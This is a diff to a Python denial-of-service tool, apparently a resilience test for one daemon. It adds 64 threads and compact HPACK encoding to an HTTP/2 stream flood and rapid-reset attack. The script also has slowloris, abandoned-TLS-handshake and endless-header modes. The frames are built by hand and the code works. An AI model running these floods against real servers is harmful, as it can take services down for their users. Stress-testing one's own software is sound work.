@@ -5,7 +5,7 @@
   slow     requests of /metrics that arrive byte by byte, and whose answers are not read
   hellos   the beginning of a TLS handshake, which is then left alone
   endless  requests of /metrics whose header does not end
-  streams  HTTP/2 over TLS without a certificate, each with as many streams as are let in, none of which ends
+  streams  HTTP/2 over TLS without a certificate, each with as many streams as are let in, none of which ends, on 64 threads
   resets   the same, but each stream is reset at once"""
 
 import resource
@@ -13,6 +13,7 @@ import socket
 import ssl
 import struct
 import sys
+import threading
 import time
 
 _MOST = 900
@@ -60,8 +61,10 @@ def hold(kind, address, port):
             time.sleep(0.05)
 
 
-# HTTP/2: HEADERS of POST https://x/grpc.health.v1.Health/Watch, by HPACK's static table and literals.
-_HPACK = (b"\x83\x87\x04\x1c/grpc.health.v1.Health/Watch\x01\x01x\x0f\x10\x10application/grpc\x00\x02te\x08trailers")
+# HTTP/2: HEADERS of POST https://x/grpc.health.v1.Health/Watch, by HPACK's static table and by literals that enter the dynamic
+# table. The second and later streams of a connection cost 15 bytes each.
+_FIRST_HPACK = b"\x83\x87\x44\x1c/grpc.health.v1.Health/Watch\x41\x01x\x5f\x10application/grpc\x40\x02te\x08trailers"
+_NEXT_HPACK = b"\x83\x87\xc1\xc0\xbf\xbe"
 _HEADERS, _RST_STREAM, _SETTINGS, _END_HEADERS, _CANCEL = 1, 3, 4, 4, 8
 _HTTP2_AT_ONCE = 64
 
@@ -81,36 +84,37 @@ def _http2(address, port):
     return connection
 
 
-def flood_streams(kind, address, port):
-    """Opens streams on many connections; a connection that the daemon closes is followed by a new one."""
-    held = []
-    began = time.monotonic()
-    told = False
-    while True:
-        try:
-            if len(held) < _HTTP2_AT_ONCE:
-                held.append([_http2(address, port), 1])
-        except OSError:
-            time.sleep(0.01)
-        for entry in list(held):
-            connection, stream = entry
+def _flood_one(kind, address, port):
+    """Opens streams on one connection until the daemon closes it."""
+    with _http2(address, port) as connection:
+        for first in range(1, 1 << 30, 128):
             frames = b""
-            for _ in range(64):
-                frames += _frame(_HEADERS, _END_HEADERS, stream, _HPACK)
+            for stream in range(first, first + 128, 2):
+                frames += _frame(_HEADERS, _END_HEADERS, stream, _FIRST_HPACK if stream == 1 else _NEXT_HPACK)
                 if kind == "resets":
                     frames += _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
-                stream += 2
-            entry[1] = stream
             try:
                 connection.sendall(frames)
             except TimeoutError:
-                pass
-            except OSError:
-                connection.close()
-                held.remove(entry)
-        if time.monotonic() > began + 1 and not told:
-            told = True
-            print("attacking", flush=True)
+                time.sleep(0.01)
+
+
+def _flood(kind, address, port):
+    while True:
+        try:
+            _flood_one(kind, address, port)
+        except OSError:
+            time.sleep(0.01)
+
+
+def flood_streams(kind, address, port):
+    """Opens streams on many connections; a connection that the daemon closes is followed by a new one."""
+    for _ in range(_HTTP2_AT_ONCE):
+        threading.Thread(target=_flood, args=(kind, address, port), daemon=True).start()
+    time.sleep(1)
+    print("attacking", flush=True)
+    while True:
+        time.sleep(60)
 
 
 def flood_headers(address, port):
